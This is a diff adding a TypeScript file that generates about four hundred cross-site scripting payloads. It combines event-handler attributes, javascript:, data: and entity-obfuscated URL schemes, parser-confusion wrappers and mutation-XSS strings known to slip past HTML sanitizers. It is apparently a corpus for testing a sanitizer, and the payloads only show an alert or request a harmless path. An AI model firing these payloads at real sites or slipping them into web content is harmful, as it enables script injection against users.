@@ -1,0 +1,132 @@
+/** What each attack tries to do: a dialog, and a request nobody else makes. */
+const RUN = `alert(1);new Image().src='/ran'`
+const URL_RUN = `javascript:${RUN}`
+
+const events = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'onanimationstart',
+  'ontoggle',
+  'onpointerenter',
+  'onbegin',
+  'onscrollend',
+  'onbeforematch',
+  'onsecuritypolicyviolation',
+]
+const carriers = [
+  (on: string) => `<img src=x ${on}="${RUN}">`,
+  (on: string) => `<svg ${on}="${RUN}"><animate attributeName=x dur=1s onbegin="${RUN}"></svg>`,
+  (on: string) => `<body ${on}="${RUN}">`,
+  (on: string) => `<details open ${on}="${RUN}"><summary>x</summary></details>`,
+  (on: string) => `<input autofocus ${on}="${RUN}">`,
+  (on: string) => `<video src=x ${on}="${RUN}"><source onerror="${RUN}"></video>`,
+  (on: string) => `<p tabindex=1 autofocus style="animation:x 1s" ${on}="${RUN}">x</p>`,
+  (on: string) => `<a href="#" ${on}='${RUN.replaceAll("'", '"')}'>x</a>`,
+  (on: string) => `<IMG SRC=x ${on.toUpperCase()}="${RUN}">`,
+  (on: string) => `<img/src=x/${on}=${RUN.replaceAll(' ', '/**/')}>`,
+  (on: string) => `<math><mi ${on}="${RUN}">x</mi></math>`,
+  (on: string) => `<iframe src=about:blank ${on}="${RUN}"></iframe>`,
+]
+const schemes = [
+  URL_RUN,
+  URL_RUN.toUpperCase(),
+  ` ${URL_RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `java&#10;script:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A;&#x61;vascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>`,
+  `vbscript:msgbox(1)`,
+  `//ran.invalid/x.js`,
+  `blob:http://x/1`,
+]
+const places = [
+  (url: string) => `<a href="${url}">x</a>`,
+  (url: string) => `<iframe src="${url}"></iframe>`,
+  (url: string) => `<form action="${url}"><button autofocus>x</button></form>`,
+  (url: string) => `<object data="${url}"></object>`,
+  (url: string) => `<embed src="${url}">`,
+  (url: string) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
+  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (url: string) => `<base href="${url}//">`,
+]
+const script = `<script>${RUN}</script>`
+const img = `<img src=x onerror="${RUN}">`
+/** Where parsers disagree about what is text: each holds an image that is only found by the wrong one. */
+const wrappers = [
+  'xmp',
+  'noscript',
+  'noembed',
+  'noframes',
+  'plaintext',
+  'textarea',
+  'title',
+  'style',
+  'template',
+  'iframe',
+  'select',
+  'selectedcontent',
+  'option',
+  'math',
+  'svg',
+  'table',
+  'form',
+  'listing',
+  'comment',
+]
+const confusing = wrappers.flatMap((tag) => [
+  `<${tag}>${img}</${tag}>`,
+  `<${tag}><p title="</${tag}>${img.replaceAll('"', '&quot;')}"></${tag}>`,
+  `<${tag}></${tag}${img}`,
+  `<${tag}/>${script}`,
+])
+const single = [
+  script,
+  `<script src=/ran></script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script/x>${RUN}</script>`,
+  `<<script>${RUN}//<</script>`,
+  `<!--<img src="--><img src=x onerror=alert(1)//">`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?>${script}`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+  `<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>`,
+  `<select><selectedcontent></selectedcontent><button><selectedcontent></button><option><img src=x onerror=alert(1)></option></select>`,
+  `<p style="background:url(javascript:alert(1))">x</p>`,
+  `<style>@import '/ran';*{background:url(/ran)}</style>`,
+  `<link rel=stylesheet href=/ran>`,
+  `<link rel=prefetch href=/ran>`,
+  `<img src=/ran>`,
+  `<img srcset="/ran 1x">`,
+  `<video poster=/ran></video>`,
+  `<p style="background:url(/ran)">x</p>`,
+  `<input type=image src=/ran>`,
+  `<svg><image href=/ran /></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x"/></svg>`,
+  `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
+  `<a href="https://ok.example" target=_blank onclick="${RUN}" ping=/ran>x</a>`,
+  `<b onclick="${RUN}" id=x name=body>x</b>`,
+  `"'><img src=x onerror=alert(1)>`,
+  `\u003cimg src=x onerror=alert(1)>`,
+  `</body></html>${script}`,
+  `{{constructor.constructor('alert(1)')()}}`,
+]
+
+/** Some four hundred ways to run something from a text. */
+export const xssVectors: readonly string[] = [
+  ...events.flatMap((on) => carriers.map((carrier) => carrier(on))),
+  ...schemes.flatMap((url) => places.map((place) => place(url))),
+  ...confusing,
+  ...single,
+]
